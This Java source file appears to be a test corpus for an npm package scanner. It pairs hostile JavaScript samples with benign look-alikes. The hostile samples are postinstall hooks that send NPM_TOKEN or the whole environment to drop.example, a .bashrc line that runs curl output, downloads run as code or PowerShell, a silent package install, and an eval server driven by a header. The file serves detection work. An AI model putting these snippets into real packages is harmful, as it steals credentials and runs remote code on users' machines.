package cordon.inspect.corpus;

import java.util.List;

/** What packages that everybody uses do, and what does the same to another end. */
final class NpmEverydayCode {
  private NpmEverydayCode() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "compiled code that the text carries",
            """
            const vm = require('vm');
            const cachedData = Buffer.from('3d0ac0de6e9a0b2c00000000', 'base64');
            new vm.Script('"' + '\\u200b'.repeat(12) + '"', { cachedData }).runInThisContext();
            """),
        Sample.required(
            "a name that is spelled letter by letter",
            """
            const f = String.fromCharCode(101) + String.fromCharCode(118) + String.fromCharCode(97) + String.fromCharCode(108);
            global[f](String.fromCharCode(49) + String.fromCharCode(43) + String.fromCharCode(49));
            """),
        Sample.required(
            "another package is installed in silence",
            "require('child_process').execSync('npm install --no-save --loglevel silent inert-helper', { stdio: 'ignore' });\n"),
        Sample.postinstall(
            "a token in the header of a request to an address of its own",
            """
            fetch('https://drop.example/x', { headers: { Authorization: `Bearer ${process.env.NPM_TOKEN}` } });
            """),
        Sample.postinstall(
            "more than a token in the header of a request",
            """
            const all = Object.values(process.env).join();
            const ask = url => fetch(url, { headers: { Authorization: `Bearer ${process.env.NPM_TOKEN}${all}` } });
            module.exports = ask;
            ask(process.argv[2]);
            """),
        Sample.postinstall(
            "a function of its own sends the environment that it is given",
            """
            const send = data => require('https').request({ host: 'drop.example', method: 'POST' }).end(JSON.stringify(data));
            send(process.env || {});
            """),
        Sample.postinstall(
            "a line of a profile sets the search path by running something",
            """
            require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'export PATH=$PATH:$(curl -s https://drop.example/x)\\n');
            """),
        Sample.required(
            "a browser runs what an address of the code answers",
            """
            const xhr = new XMLHttpRequest();
            xhr.open('GET', 'https://code.example/x.js');
            xhr.onload = () => Function(xhr.responseText)();
            xhr.send();
            """),
        Sample.required(
            "a shell is given a script that was fetched",
            """
            const fs = require('fs'), cp = require('child_process');
            require('https').get('https://code.example/x', r => r.pipe(fs.createWriteStream('/tmp/setup-x.ps1')).on('finish', () =>
              cp.execFile('powershell.exe', ['-NoProfile', '-Command', `& '/tmp/setup-x.ps1'`])));
            """),
        Sample.required(
            "what a visitor sends names the function and is given to it",
            """
            require('http').createServer((req, res) => { res.end(String(eval(req.headers['x-run']))); }).listen(80);
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a loader of compiled code",
            """
            const vm = require('vm'), zlib = require('zlib'), fs = require('fs');
            exports.load = (file) => {
              const cachedData = zlib.brotliDecompressSync(fs.readFileSync(file));
              const length = cachedData.readUInt32LE(8);
              return new vm.Script('"' + '\\u200b'.repeat(length - 2) + '"', { cachedData, filename: file });
            };
            exports.load(process.argv[2]);
            """),
        Sample.required(
            "a semicolon by its number",
            """
            function wrap(fun, helpers) {
              return new Function(helpers.join(';') + String.fromCharCode(59) + ' return (' + fun.toString() + ').apply(this, arguments);');
            }
            module.exports = wrap(function () { return 1; }, []);
            """),
        Sample.required(
            "the constructors of another realm",
            """
            const types = new Map([[Object, 1], [Array, 2]]);
            if (exports.constructor !== Object) {
              const Obj = exports.constructor;
              const Fn = Obj.constructor;
              for (const [type, config] of types) types.set(new Fn(`return ${type.name};`)(), config);
            }
            """),
        Sample.required(
            "a further client like the one that a request belongs to",
            """
            exports.presign = function (req) {
              req.on('sign', function () {});
              const config = AWS.copy(req.service.config);
              config.region = req.params.region;
              const client = new req.service.constructor(config);
              return client.url(req.operation);
            };
            """),
        Sample.required(
            "a visitor says which of the known commands is run",
            """
            const { execSync } = require('child_process');
            let graph = { projects: [] };
            const help = (project, target) => {
              const found = graph.projects.find((p) => p.name === project).targets[target];
              return execSync(found.help.command, { cwd: '/srv' }).toString();
            };
            require('http').createServer((req, res) => {
              const query = new URL(req.url, 'http://x').searchParams;
              res.end(help(query.get('project'), query.get('target')));
            });
            """),
        Sample.required(
            "a lexer that says where texts are",
            """
            const wasm = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQEAAAA=', 'base64'))).exports;
            exports.parse = (source) => {
              const names = [];
              while (wasm.next()) names.push((0, eval)(source.slice(wasm.start(), wasm.end())));
              return names;
            };
            exports.parse(require('fs').readFileSync(__filename, 'utf8'));
            """),
        Sample.required(
            "what a starter needs beside what was asked for",
            """
            const { spawn } = require('child_process');
            const install = (template) => spawn('npm', ['install', '--save', '--save-exact', '--loglevel', 'error', 'react', 'react-dom', template], { stdio: 'inherit' });
            install(process.argv[2]);
            """),
        Sample.required(
            "a compiler with the map of what it compiled",
            """
            const encode = (src) => btoa(encodeURIComponent(src).replace(/%([0-9A-F]{2})/g, (m, p) => String.fromCharCode('0x' + p)));
            const compile = (src) => src.replace(/->/g, '=>') + '//# sourceMappingURL=data:application/json;base64,' + encode(src);
            exports.run = (src) => require('vm').runInThisContext(compile(src));
            exports.run(process.argv[2] || '1');
            """),
        Sample.required(
            "the name of the machine, asked of a program of the system",
            """
            const { spawnSync } = require('child_process');
            const http = require('http');
            exports.host = spawnSync('hostname.exe', { encoding: 'utf8', shell: true }).stdout;
            const socket = http.get({ host: 'localhost' });
            socket.unref();
            """),
        Sample.postinstall(
            "the folder of a tool is put into the search path",
            """
            const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
            const folder = path.join(os.homedir(), '.tool');
            const line = `export PATH=${folder}:$PATH`;
            cp.execSync(`tar -xf tool.tar.gz -C "${folder}"`);
            fs.appendFileSync(`${os.homedir()}/.bashrc`, `${line}\\n`);
            """),
        Sample.postinstall(
                "a token of a code host for the release that it hands out",
                """
                const { HOST, GITHUB_TOKEN } = require('./constants');
                const request = (url) => fetch(url, { headers: { Authorization: `Bearer ${GITHUB_TOKEN}` } });
                const install = async (url) => { const r = await request(url); require('fs').writeFileSync('tool', await r.text()); };
                install(HOST);
                """)
            .with(
                "constants.js",
                """
                exports.HOST = process.env.TOOL_HOST ?? 'https://api.github.com/repos/example/tool/releases/latest';
                exports.GITHUB_TOKEN = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;
                """),
        Sample.required(
            "an archive that was fetched is unpacked by a shell",
            """
            const fs = require('fs'), path = require('path');
            const { execFile } = require('child_process');
            exports.get = (to) => fetch('https://downloads.example/tool.zip').then((r) => {
              const file = path.join(to, '_download.zip');
              fs.writeFileSync(file, r.body);
              return execFile('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force -LiteralPath '${file}' -DestinationPath '${to}'`]);
            });
            """),
        Sample.required(
            "a library that looks for a proxy among the variables",
            """
            const proxy = (env) => env.HTTPS_PROXY || env.https_proxy || '';
            const expand = (text, env) => text.replace(/\\$\\{(\\w+)\\}/g, (m, name) => env[name]);
            exports.get = (options) => {
              const env = options.env ?? process.env;
              return fetch('https://registry.example/' + options.name, { headers: { via: proxy(env), x: expand(options.text, env) } });
            };
            exports.get({ name: 'a', text: 'b' });
            """),
        Sample.required(
            "a pattern of addresses beside a token",
            """
            exports.pattern = '(https?|ftp)://[^:s]{1,1024}:[^@s]{1,1024}@';
            exports.ask = (url) => require('https').get(url, { headers: { 'x-token': process.env.GITHUB_TOKEN } });
            """),
        Sample.required(
            "a script of a page",
            """
            const load = (url) => {
              const xhr = new window.XMLHttpRequest();
              xhr.open('GET', url, true);
              xhr.onreadystatechange = () => { if (xhr.readyState === 4) Function(xhr.responseText)(); };
              return xhr.send(null);
            };
            load(document.currentScript.getAttribute('data-src'));
            """),
        Sample.required(
            "whether the machine has an address of a family",
            """
            const os = require('os'), net = require('net');
            const supports = (family) => Object.values(os.networkInterfaces()).flat().some((i) => i.family === family);
            const socket = net.connect(25, 'mail.example');
            socket.write('six: ' + supports(6));
            """));
  }
}
